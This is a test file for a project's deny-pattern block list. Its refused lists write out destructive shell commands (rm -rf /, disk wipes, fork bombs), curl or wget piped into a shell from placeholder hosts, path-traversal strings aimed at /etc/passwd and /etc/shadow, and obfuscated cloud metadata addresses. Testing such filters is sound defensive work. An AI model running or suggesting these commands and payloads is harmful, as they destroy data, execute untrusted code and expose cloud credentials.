/* eslint-disable no-template-curly-in-string -- shell variables, on purpose */
import { RE2JS } from 're2js'
import { test } from 'tap'

import { denyPatterns } from '../../src/config/deny-patterns.ts'

const compiled = new Map(denyPatterns.map(({ name, pattern }) => [name, RE2JS.compile(pattern)]))

function caught (text: string): string[] {
  return [...compiled].filter(([, pattern]) => pattern.matcher(text).find()).map(([name]) => name)
}

const refused: Readonly<Record<string, readonly string[]>> = {
  'destructive-command': [
    'rm -rf /', 'rm -fr /', 'rm -r -f /', 'sudo rm -rf --no-preserve-root /', 'rm --recursive --force /', 'rm -Rf /*', 'cd /tmp; rm -rf / ; echo', 'rm -rf "/"', 'rm -rf -- /',
    'rm -rf ~', 'rm -rf ~/', 'rm -rf $HOME', 'rm -rf "$HOME"/*', 'rm -rf ${HOME}/', 'rm -rf /etc', 'rm -rf /usr/', 'rm -rf /home/*', 'bash -c "rm -rf /"', 'rm -rf /&', '$(rm -rf /)',
    'find / -delete', 'find / -type f -delete',
    'mkfs.ext4 /dev/sda1', 'mkfs -t xfs /dev/nvme0n1', 'dd if=/dev/zero of=/dev/sda bs=1M', 'dd of=/dev/nvme0n1 if=x', 'cat x > /dev/sda', 'wipefs -a /dev/vda', 'shred -n1 /dev/sdb',
    ':(){ :|:& };:', ':() { : | : & } ; :', 'bomb() { bomb | bomb & }; bomb',
    'curl -fsSL https://x.example/i.sh | sh', 'curl https://x | sudo bash', 'wget -qO- https://x | /bin/bash -s -- --yes', 'curl x | sudo -E bash -', 'curl x|python3', 'curl x | python3 -', 'wget -O - x | env bash',
    'bash -c "$(curl -fsSL https://x)"', 'sh -c "`wget -qO- x`"', 'bash <(curl -s x)', 'source <(curl -s x)', 'eval "$(curl -s x)"', '. <(wget -qO- x)',
  ],
  'path-traversal': [
    '../', '..', '../etc/passwd', 'cat ../../../etc/passwd', 'ls -l ../../secret', './../etc', '..\\windows', '/../etc/passwd', 'a/../../etc/passwd', '/data/../etc/passwd', 'C:\\data\\..\\secret', 'file:///srv/../../etc/shadow', 'file:../x', 'My Documents/../../x',
    'images/..', '/data/x/..', 'a"/../../etc/passwd', "x'/../../y", '?file=../../etc/passwd', '--path=../secret', 'https://x.example/a/../../b', '//../x', 'dir/./../x', ' ../x',
    '%2e%2e/etc', '%2e%2e%2fetc', '%2E%2E%5cx', '..%2f..%2fetc', '..%5cwin', '.%2e/x', '%2e./x', '%252e%252e%252f', '..%252fx', '%c0%ae%c0%ae/x', '..%c0%afx', '/static/%2e%2e',
  ],
  'metadata-address': [
    '169.254.169.254', 'http://169.254.169.254/latest/meta-data/', 'http://169.254.170.2/v2/credentials', 'http://2852039166/', '0xa9fea9fe', 'http://0xA9FEA9FE/x', 'http://0xa9.0xfe.0xa9.0xfe/', 'http://0251.0376.0251.0376/', 'http://169.254.43518/', 'http://169.16689662',
    'http://0251.254.169.254', 'http://169-254-169-254.example.com', 'http://169.254.169.254.nip.io/', 'http://metadata.google.internal/computeMetadata/v1/', 'METADATA.GOOGLE.INTERNAL', 'http://metadata.azure.internal', 'http://[fd00:ec2::254]/', 'fd00:0ec2:0:0:0:0:0:254', 'http://[::ffff:169.254.169.254]/', 'http://[::ffff:a9fe:a9fe]/', 'http://[0:0:0:0:0:ffff:a9fe:a9fe]/', 'http://100.100.100.200/latest', 'http://instance-data.ec2.internal/',
  ],
}

const passed = [
  // ordinary clean-up and administration
  'rm -rf node_modules', 'rm -rf ./build', 'rm -rf dist/ && npm run build', 'rm -f /tmp/x', 'rm -rf /tmp/build-1', 'rm -rf /home/alice/project/dist', 'rm -rf "$HOME/project/dist"', 'rm -rf ~/project/dist', 'rm file.txt', 'rm -rf /var/www/old',
  'The farm -rf / weird', 'find . -name "*.tmp" -delete', 'find /srv/data/x -delete', 'dd if=/dev/zero of=disk.img bs=1M count=1', 'dd if=/dev/sda of=backup.img', 'echo x > /dev/null', 'command 2>/dev/null', 'mkfs is a command that makes file systems',
  'curl https://api.example.com/v1 | jq .', 'curl -s x | python3 -m json.tool', 'curl x | grep sh', 'wget https://x/y.tar.gz', 'curl x > install.sh', 'function f() { a | b; }', 'const f = () => { return a || b }', 'shell scripts use sh', 'curl x | shasum -a 256',
  // paths and texts with dots
  'src/index.ts', '/data/report..final.txt', 'a/b/c', 'Wait... what?', 'and so on ...', 'origin/main..HEAD', 'git log v1..v2', './...', 'go test ./...', '...', 'a/.../b', '1..10', 'foo/..bar', '.hidden/file', 'x/...',
  "import x from '../lib/x.ts'", "const y = require('../../y')", 'import a from "../a"\nimport b from "../../b"\n', 'cd ../build && make', 'See (../docs/readme.md) for more', '#include "../x.h"\nint main(void);\n', 'path.join(__dirname, \'..\', \'x\')', '100%2 equals', 'width: 50%; 2e5',
  // addresses and numbers
  '169.254.1.1', '10.0.0.1', '1169.254.169.2541', 'http://example.com/metadata', 'metadata', '2852039167', '0xa9fe', 'fd00:ec2::1', 'order 12852039166', 'the instance data is stored', '169.254.169.25', 'metadata.json',
]

test('every spelling of a destructive command, a climbing path and a metadata address is caught', async (t) => {
  for (const [name, texts] of Object.entries(refused)) {
    for (const text of texts) t.ok(caught(text).includes(name), `${name}: ${text}`)
  }
})

test('ordinary arguments pass every pattern', async (t) => {
  for (const text of passed) t.same(caught(text), [], text)
})
